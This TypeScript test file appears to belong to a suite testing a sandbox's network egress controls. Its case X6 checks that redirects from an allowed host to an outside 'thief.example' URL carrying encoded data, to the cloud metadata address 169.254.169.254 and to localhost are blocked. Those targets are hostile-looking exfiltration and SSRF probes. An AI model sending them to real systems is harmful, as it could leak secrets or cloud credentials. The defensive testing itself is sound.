import { fakeInternet, type Site, saying } from '../../../fakes/egress-world.ts';
import { type Attack, contained, escaped, hindered, passed } from '../attack.ts';
import { obedientVisit } from './obedient-visit.ts';

const hosts = ['packages.example', 'files.example'] as const;
const network = { kind: 'allowed', hosts, services: [] } as const;

/** Follows redirects as installers do, with the machine's own client of that kind. */
const follow = (path: string): string =>
  `node -e "fetch('https://packages.example${path}').then(async (r) => console.log(r.status, await r.text()), (e) => console.log(String(e.cause ?? e)))"`;

const redirecting: Site = ({ path }, answer) => {
  const to = new URL(path, 'https://packages.example').searchParams.get('to') ?? '/';
  answer.writeHead(302, { location: to }).end();
};

export const redirectOutside: Attack = {
  id: 'X6',
  title: 'an allowed host redirects to a host that is not, and to the metadata service',
  attack: async (signal) => {
    await using internet = await fakeInternet({ 'packages.example': redirecting, 'thief.example': saying('thanks') });
    const targets = [
      'https://thief.example/?c2VjcmV0',
      'http://thief.example/?c2VjcmV0',
      '//thief.example/',
      'http://169.254.169.254/latest/meta-data/',
      'https://127.0.0.1/',
    ];
    const commands = targets.map((to) => follow(`/?to=${encodeURIComponent(to)}`));
    const said = await obedientVisit({ internet, network, commands, signal });
    const strangers = [...internet.visits.map(({ host }) => host), ...internet.resolved].filter(
      (host) => host !== 'packages.example',
    );
    if (strangers.length > 0 || said.some((text) => text.includes('thanks'))) return escaped(strangers.join(', '));
    return contained('every hop is asked for anew, and judged like the first');
  },
  twin: async (signal) => {
    await using internet = await fakeInternet({ 'packages.example': redirecting, 'files.example': saying('package') });
    const to = 'https://files.example/package.tgz?X-Amz-Signature=0123&X-Amz-Credential=them';
    const commands = [follow(`/?to=${encodeURIComponent(to)}`)];
    const [said = ''] = await obedientVisit({ internet, network, commands, signal });
    return said.includes('200 package')
      ? passed('a redirect to a signed address of another allowed host')
      : hindered(said);
  },
};
